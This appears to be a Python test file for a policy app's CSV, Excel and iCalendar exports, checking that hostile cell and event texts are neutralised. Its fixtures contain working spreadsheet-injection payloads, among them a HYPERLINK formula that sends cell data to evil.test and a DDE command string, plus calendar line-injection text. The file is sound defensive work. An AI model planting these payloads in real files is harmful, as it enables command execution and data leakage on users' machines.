"""Hostile texts in downloads: no live formula, no split record, no failed Excel file, no
injected calendar line; one writer for the app and the command line."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import shutil

import icalendar
import openpyxl
import pandas as pd
import pytest
import yaml

from policy_model.cli import main
from policy_model.paths import DEFAULT_DATA_DIR
from policy_model.tabular import table_csv_bytes, table_xlsx_bytes
from policy_model.timeline import all_events, to_ics

FORMULAS = ["=1+1", "+SUM(A1)", "-2+3", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://evil.test","x")']
HOSTILE = pd.DataFrame({
    "Naam": [*FORMULAS, "een\rlosse CR", "regel\r\nbreuk", "nul\x00teken\x07bel", "gewoon"],
    "Getal": [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, -11],
})


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_csv_cells_that_start_like_a_formula_get_a_leading_apostrophe():
    rows = _csv_rows(table_csv_bytes(HOSTILE))
    names = [row[0] for row in rows[1:]]
    for formula, written in zip(FORMULAS, names, strict=False):
        assert written.startswith("'"), written
        assert written[1:] == formula.replace("\r", "\n")
    assert names[-1] == "gewoon"
    assert rows[-1][1] == "-11"  # a real number stays a number


def test_a_lone_carriage_return_is_quoted_and_no_record_is_split():
    raw = table_csv_bytes(HOSTILE).decode("utf-8-sig")
    rows = _csv_rows(table_csv_bytes(HOSTILE))
    assert len(rows) == len(HOSTILE) + 1
    assert '"een\nlosse CR"' in raw and "\r\nlosse" not in raw
    # Splitting the file on *any* line break outside quotes still finds every record start.
    assert pd.read_csv(io.StringIO(raw), sep=";", dtype=str).shape == HOSTILE.shape


def test_xlsx_has_no_formula_cell_and_survives_control_characters():
    book = openpyxl.load_workbook(io.BytesIO(table_xlsx_bytes(HOSTILE)))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = [row[0] for row in book.active.iter_rows(min_row=2, values_only=True)]
    assert names[0] == "=1+1" and "nulteken" + "bel" in names
    assert book.active.cell(row=2, column=1).quotePrefix


def test_xlsx_of_rows_with_missing_keys_and_lists():
    data = table_xlsx_bytes([{"a": "=x", "b": ["p", "q"]}, {"a": None, "c": 1.5}], sheet="Blad:[1]/x" * 5)
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert [list(r) for r in book.active.iter_rows(values_only=True)] == [["a", "b", "c"], ["=x", "p; q", None],
                                                                          [None, None, 1.5]]
    assert len(book.active.title) <= 31 and ":" not in book.active.title


@pytest.fixture
def formula_dataset(tmp_path):
    """The real dataset with a requirement text and a title that start like formulas."""
    data = tmp_path / "data"
    shutil.copytree(DEFAULT_DATA_DIR, data)
    path = data / "policies" / "cz-2027.yaml"
    policy = yaml.safe_load(path.read_text(encoding="utf-8"))
    policy["requirements"][0]["text"] = '=HYPERLINK("http://evil.test/?"&A1,"klik")'
    policy["title"] = "@SUM(1+1)"
    path.write_text(yaml.safe_dump(policy, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return data


def test_cli_csv_export_neutralises_formulas(formula_dataset, tmp_path, capsys):
    out = tmp_path / "facts.csv"
    assert main(["export", "--format", "csv", "--out", str(out), "--data-dir", str(formula_dataset)]) == 0
    rows = _csv_rows(out.read_bytes())
    texts = [cell for row in rows for cell in row]
    assert not [t for t in texts if t.startswith(("=", "+", "@"))], "a live formula in the export"
    assert "'=HYPERLINK(\"http://evil.test/?\"&A1,\"klik\")" in texts
    assert all(len(row) == len(rows[0]) for row in rows)


def test_cli_batch_output_neutralises_coach_names(tmp_path, capsys):
    coaches = tmp_path / "coaches.csv"
    coaches.write_text("name;registries\n\"=cmd|' /C calc'!A0\";BLCN\n-2+3;KP\n", encoding="utf-8")
    out = tmp_path / "matrix.csv"
    assert main(["assess-batch", str(coaches), "--year", "2027", "--out", str(out), "--today", "2026-06-01"]) == 0
    names = [row[0] for row in _csv_rows(out.read_bytes())[1:]]
    assert names == ["'=cmd|' /C calc'!A0", "'-2+3"]


def _hostile_events(cat):
    events = all_events(cat)
    first = events[0]
    evil = "Deadline\rEND:VEVENT\u2028BEGIN:VEVENT\x85SUMMARY:nep\x0bDTSTART:20000101\x00;x,y\\z"
    return [dataclasses.replace(first, activity=evil), *events[1:]], len(events)


def test_ics_line_breaks_in_texts_cannot_inject_lines(cat):
    events, count = _hostile_events(cat)
    text = to_ics(events, cat, stamp=dt.datetime(2026, 1, 1, tzinfo=dt.UTC))
    # A reader that splits on every kind of line break still sees one event per event.
    lines = text.splitlines()
    assert sum(line == "BEGIN:VEVENT" for line in lines) == count
    assert sum(line.startswith("SUMMARY:") for line in lines) == count
    assert not [line for line in lines if line.startswith("DTSTART:")]
    parsed = icalendar.Calendar.from_ical(text)
    description = str(parsed.walk("VEVENT")[0]["DESCRIPTION"])
    assert description.startswith("Deadline\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:nep\nDTSTART:20000101;x,y\\z")


def test_ics_uids_do_not_depend_on_the_position_in_the_export(cat):
    events = all_events(cat)
    stamp = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)

    def uids(chosen):
        calendar = icalendar.Calendar.from_ical(to_ics(chosen, cat, stamp=stamp))
        return {str(e["SUMMARY"]) + str(e["DTSTART"].dt): str(e["UID"]) for e in calendar.walk("VEVENT")}

    everything = uids(events)
    later_only = uids(events[len(events) // 2:])
    assert later_only.items() <= everything.items()
    assert len(set(everything.values())) == len(everything)


def _with_repeated_timeline(cat, count: int):
    """The catalogue with ZZ 2024's dated timeline items repeated to ``count`` items: identical
    items (same kind, day and activity) come up again and again."""
    policy = cat.policy("zz", 2024)
    dated = [item for item in policy.timeline if item.date is not None]
    repeated = policy.model_copy(update={"timeline": [dated[n % len(dated)] for n in range(count)]})
    return dataclasses.replace(cat, policies=tuple(repeated if p is policy else p for p in cat.policies),
                               _index={})


def test_identical_timeline_items_get_their_own_stable_uids(cat):
    """Identical items once shared a UID, so a calendar kept one of them. (Ten copies of each
    item are enough to prove it; the time of 4,020 events, once 123 s, is in `make bench`:
    benchmarks/hostile.py.)"""
    big = _with_repeated_timeline(cat, 402)
    events = all_events(big)
    stamp = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
    uids = [str(e["UID"]) for e in icalendar.Calendar.from_ical(to_ics(events, big, stamp=stamp)).walk("VEVENT")]
    assert len(uids) == len(events) > 402
    assert len(set(uids)) == len(uids)
    first = events[0]
    twins = [u for e, u in zip(events, uids, strict=True) if e == first]
    assert len(twins) > 1 and twins[1] == twins[0].replace("@", "-2@")
    again = [str(e["UID"]) for e in icalendar.Calendar.from_ical(to_ics(events, big, stamp=stamp)).walk("VEVENT")]
    assert again == uids
